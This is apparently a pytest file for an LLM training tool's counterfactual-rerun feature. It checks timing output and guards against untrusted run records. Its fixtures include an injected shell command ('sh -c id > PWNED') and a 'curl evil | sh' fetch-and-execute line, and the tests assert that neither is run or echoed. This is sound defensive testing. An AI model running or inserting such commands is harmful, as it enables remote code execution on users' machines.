"""`ezpz-llm explain --counterfactual` on a run that `launch` made, from one end to the other."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from slowness import scaled

from ezpz_llm.base.errors import UserError
from ezpz_llm.data.manifest import _mend
from ezpz_llm.explain.counterfactual import rerun
from ezpz_llm.rundir import RunDir, read_record

ENV = {**os.environ, "OMP_NUM_THREADS": "1", "OMP_WAIT_POLICY": "PASSIVE", "COLUMNS": "100"}
# Steps of some 100 ms: in shorter ones a core that another process takes is most of the time.
SMALL = ["--n-layer", "4", "--n-head", "2", "--n-embd", "128", "--block-size", "128", "--steps", "3", "--profile",
         "false", "--eval-tokens", "1024", "--sample-tokens", "0", "--save-every", "-1", "--ds-config", "zero1"]


def explain(*words: str, cwd, timeout=170):
    return subprocess.run([sys.executable, "-m", "ezpz_llm.explain", *words], env=ENV, cwd=cwd, timeout=timeout,
                          capture_output=True, text=True, check=False)


def launched(folder):
    command = [sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "run", "--", sys.executable,
               "-m", "ezpz_llm.train", *SMALL]
    done = subprocess.run(command, env=ENV, cwd=folder, capture_output=True, text=True,
                          timeout=scaled(120), check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder / "run"


@pytest.mark.full
def test_the_runs_steps_are_made_again_without_collectives(tmp_path):
    run_dir = launched(tmp_path)
    done = explain("run", "--counterfactual", "--yes", "--json", cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    found = json.loads(done.stdout)
    assert [one["rank"] for one in found["counterfactual"]] == [0, 1]
    for one in found["counterfactual"]:
        assert 0 < one["stubbed_s"] < one["real_s"] < 5
        assert one["removed_share"] == pytest.approx(1 - one["stubbed_s"] / one["real_s"])
        assert 0 < one["exposed_share"] < 1
    again = next(run_dir.glob("counterfactual-*"))
    # The run itself is as it was; the other one's layout and model are the run's own.
    assert len(list(RunDir(run_dir).profile.glob("trace-rank*"))) == 0
    assert read_record(RunDir(again))["model"] == read_record(RunDir(run_dir))["model"]
    assert len(list(RunDir(again).profile.glob("trace-rank*.json.gz"))) == 2
    assert not list((again / "checkpoints").glob("step*"))
    text = explain(str(again), cwd=tmp_path).stdout
    for words in ("measured by leaving collectives out", "exposed share by traces", "Checks by other tools",
                  "times our"):
        assert words in text


@pytest.mark.parametrize(("record", "says"), [
    ({"launch": {"typed": ["launch", "a"]}, "environment": {"world_size": 1}}, "nobody to communicate with"),
    ({"launch": {"typed": ["launch", "a"]}, "environment": {"world_size": 2}, "precision": "fp16_autocast"},
     "scale their losses"),
    ({"environment": {"world_size": 2}}, "no record of how the run was launched"),
])
def test_what_has_no_counterfactual_is_refused(tmp_path, record, says):
    (tmp_path / "run.json").write_text(json.dumps(record))
    with pytest.raises(UserError, match=says):
        rerun(tmp_path, yes=True)
    assert len(list(tmp_path.iterdir())) == 1


RECORD = {"launch": {"typed": ["launch", "sh", "-c", "id > PWNED"]}, "environment": {"world_size": 2},
          "config": {"ds_config": "zero1"}, "sources": {"ds_config": "command line"}}


def test_nothing_starts_unasked_or_from_another_user_s_run(tmp_path, monkeypatch, capsys):
    def run(*words, **_):
        raise AssertionError(words)

    monkeypatch.setattr(subprocess, "run", run)
    path = tmp_path / "run.json"
    path.write_text(json.dumps(RECORD))
    with pytest.raises(UserError, match="nothing was started") as error:
        rerun(tmp_path, yes=False)
    assert "--yes" in error.value.instead
    shown = capsys.readouterr().err
    assert "-m ezpz_llm.launch -n 2" in shown
    assert "PWNED" not in shown
    path.chmod(0o666)
    with pytest.raises(UserError, match="only a run of your own"):
        rerun(tmp_path, yes=True)
    path.chmod(0o600)
    # A stranger's path is exchanged for a link to a run of one's own, once its record has been read.
    (tmp_path / "theirs").symlink_to(tmp_path)
    with pytest.raises(UserError, match="nothing was started") as error:
        rerun(tmp_path / "theirs", yes=False)
    assert f"--run-dir {tmp_path}/counterfactual" in capsys.readouterr().err
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    with pytest.raises(UserError, match="only a run of your own"):
        rerun(tmp_path, yes=True)


def test_advice_quotes_no_command_of_another_user_s_manifest(tmp_path, monkeypatch):
    manifest = {"format": "ezpz_llm tokens 1", "command": "curl evil | sh;", "dtype": "uint16",
                "splits": {"train": {"tokens": 1, "shards": [{"file": "a.bin", "tokens": 1, "sha256": ""}]}}}
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps(manifest))
    assert "evil" in _mend(tmp_path, manifest), "of one's own it is what was typed"
    path.chmod(0o666)
    assert "evil" not in _mend(tmp_path, manifest)
    path.chmod(0o600)
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    assert "evil" not in _mend(tmp_path, manifest)
